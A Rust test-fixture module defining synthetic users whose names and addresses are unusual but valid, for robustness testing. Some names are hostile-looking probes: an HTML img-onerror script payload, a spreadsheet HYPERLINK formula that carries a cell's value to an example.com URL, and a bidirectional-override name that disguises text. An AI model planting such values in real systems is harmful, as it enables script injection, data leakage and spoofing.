//! People whose data is unusual without being wrong, each under a fixed ID.
//!
//! [`MOST_EVENTS`] and [`EVERY_SHAPE`] and the two of [`OFF_SUMMARY`] are there from
//! [`crate::sentinels::MIN_USERS`] users on, the others from [`MIN_USERS`] on. Those off the
//! summary come on top of the users asked for.
//!
//! | ID ends in | what is unusual |
//! |---|---|
//! | 01 | exactly 10,000 events |
//! | 02 | event details of every shape JSON has, hostile-looking ones too |
//! | 03 | a name of 200 characters |
//! | 04 | a name of combining marks only |
//! | 05 | a long right-to-left name |
//! | 06 | a name with bidirectional overrides |
//! | 07 | a name that looks like markup |
//! | 08 | a name that a spreadsheet would run |
//! | 09 | a name of one word |
//! | 0a | an empty name |
//! | 0b | a name in decomposed form (NFD), as some directories keep them |
//! | 0c | an address in Unicode (RFC 6531) |
//! | 0d | reset once, with events from before and after it |
//! | 0e, 0f | reset, no event since: off the summary, readable by ID; 0e kept its events, 0f none |

use model::KnownLevel;
use uuid::{Uuid, uuid};

/// With fewer users than this only the first two are there.
pub const MIN_USERS: usize = 40;

pub const MOST_EVENTS: Uuid = uuid!("0dd00000-0000-4000-8000-000000000001");
pub const EVERY_SHAPE: Uuid = uuid!("0dd00000-0000-4000-8000-000000000002");
pub const LONG_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000003");
pub const COMBINING_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000004");
pub const RIGHT_TO_LEFT_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000005");
pub const BIDI_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000006");
pub const MARKUP_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000007");
pub const FORMULA_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000008");
pub const ONE_WORD_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-000000000009");
pub const EMPTY_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-00000000000a");
pub const DECOMPOSED_NAME: Uuid = uuid!("0dd00000-0000-4000-8000-00000000000b");
pub const UNICODE_ADDRESS: Uuid = uuid!("0dd00000-0000-4000-8000-00000000000c");
pub const RESET_AND_BACK: Uuid = uuid!("0dd00000-0000-4000-8000-00000000000d");
pub const OFF_SUMMARY: [Uuid; 2] =
    [uuid!("0dd00000-0000-4000-8000-00000000000e"), uuid!("0dd00000-0000-4000-8000-00000000000f")];

/// How many events [`MOST_EVENTS`] has.
pub const EVENTS: u64 = 10_000;

/// Someone with an unusual name or address.
pub(crate) struct Oddity {
    pub id: Uuid,
    pub name: &'static str,
    pub email: &'static str,
    pub level: KnownLevel,
}

const fn oddity(id: Uuid, name: &'static str, email: &'static str, level: KnownLevel) -> Oddity {
    Oddity { id, name, email, level }
}

pub(crate) const ODDITIES: [Oddity; 10] = [
    oddity(LONG_NAME, LONG, "maximiliana.hohenlohe@example.com", KnownLevel::Medium),
    oddity(
        COMBINING_NAME,
        "\u{301}\u{302}\u{323}\u{308}\u{32a}\u{30a}",
        "t.marks@example.org",
        KnownLevel::Low,
    ),
    oddity(
        RIGHT_TO_LEFT_NAME,
        "عبد الرحمن محمد بن عبد العزيز (المدير الإقليمي 2) الأنصاري",
        "abdulrahman.alansari@example.com",
        KnownLevel::Medium,
    ),
    oddity(
        BIDI_NAME,
        "Robin \u{202e}nosnetsirK\u{202c} \u{2067}Vale\u{2069}",
        "robin.vale@corp.example",
        KnownLevel::Low,
    ),
    oddity(MARKUP_NAME, "<img src=x onerror=alert(1)>", "import.17@example.net", KnownLevel::Low),
    oddity(
        FORMULA_NAME,
        "=HYPERLINK(\"https://example.com/?q=\"&A1,\"Open\")",
        "import.18@example.net",
        KnownLevel::Low,
    ),
    oddity(ONE_WORD_NAME, "Wulandari", "wulandari@example.org", KnownLevel::Low),
    oddity(EMPTY_NAME, "", "service-desk@example.com", KnownLevel::Low),
    oddity(
        DECOMPOSED_NAME,
        "Zoe\u{308} Nu\u{301}n\u{303}ez A\u{30a}berg",
        "zoe.aberg@example.org",
        KnownLevel::Low,
    ),
    oddity(UNICODE_ADDRESS, "田中 陽子", "陽子.田中@例え.example", KnownLevel::Low),
];

/// 200 characters, as a directory fills the field that holds all of somebody's names.
const LONG: &str = "Maximiliana Wilhelmine Henriette Adelheid Konstanze Theodora Leopoldine \
    Franziska Elisabeth Christiane Johanna Friederike Margarethe von Hohenlohe-Waldenburg und zu \
    Schillingsfürst-Breunigheim-Ostheim";

#[cfg(test)]
mod tests {
    #[test]
    fn the_long_name_has_200_characters() {
        assert_eq!(super::LONG.chars().count(), 200);
    }
}
